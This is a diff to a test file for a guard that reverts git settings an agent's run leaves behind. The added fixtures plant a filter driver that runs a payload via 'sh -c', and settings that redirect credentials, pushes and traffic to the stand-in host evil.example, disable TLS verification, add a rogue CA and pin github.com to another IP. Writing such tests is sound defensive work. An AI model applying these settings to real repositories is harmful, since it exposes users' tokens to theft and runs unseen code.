@@ -84,6 +84,15 @@ const plants: Array<[string, () => void]> = [
     }
   ],
   [
+    // A subsection keeps its case in git; folded, the guard would unset another setting.
+    'a filter driver in a capitalised subsection (filter.EVIL)',
+    () => {
+      writeFileSync(join(ws, '.gitattributes'), '*.txt filter=EVIL\n')
+      git('config', 'filter.EVIL.clean', `sh -c '${payload()}; cat'`)
+      writeFileSync(join(ws, 'a.txt'), 'changed\n')
+    }
+  ],
+  [
     'include.path to a config of the agent’s',
     () => {
       writeFileSync(join(ws, 'evil.cfg'), `[core]\n\tfsmonitor = ${payload()}\n`)
@@ -160,6 +169,34 @@ describe('git settings and hooks the run leaves for the runner', () => {
     )
     expect(git('config', 'core.pager').trim()).toBe('less -R')
     expect(() => git('config', 'alias.x')).toThrow()
+  })
+
+  it('takes back settings that send git’s credentials elsewhere, in their own spelling', () => {
+    git('remote', 'add', 'origin', 'https://github.com/octo/repo')
+    const snapshot = snapshotGitExec(ws, [])
+    git('config', 'url.https://Evil.example/.insteadOf', 'https://x-access-token:')
+    git('config', 'remote.origin.url', 'https://evil.example/octo/repo')
+    git('config', 'remote.origin.pushurl', 'https://evil.example/octo/repo')
+    git('config', 'http.proxy', 'http://evil.example:8080')
+    git('config', 'http.https://github.com/.sslVerify', 'false')
+    git('config', 'http.sslCAInfo', join(ws, 'evil-ca.pem'))
+    git('config', 'http.curloptResolve', 'github.com:443:203.0.113.7')
+    const findings = revertGitExec(snapshot)
+    expect(findings.every((f) => f.route)).toBe(true)
+    expect(findings.map((f) => f.what).sort()).toEqual(
+      [
+        'http.curloptresolve',
+        'http.https://github.com/.sslverify',
+        'http.proxy',
+        'http.sslcainfo',
+        'remote.origin.pushurl',
+        'remote.origin.url',
+        'url.https://Evil.example/.insteadof'
+      ].map((k) => `removed ${k}, which the run set`)
+    )
+    expect(git('config', '--list')).not.toMatch(/evil|sslverify|curloptresolve|sslcainfo|proxy/i)
+    // The remote URL the repository had before the run is put back.
+    expect(git('config', 'remote.origin.url').trim()).toBe('https://github.com/octo/repo')
   })
 
   it('moves a changed hook aside without following a link', () => {
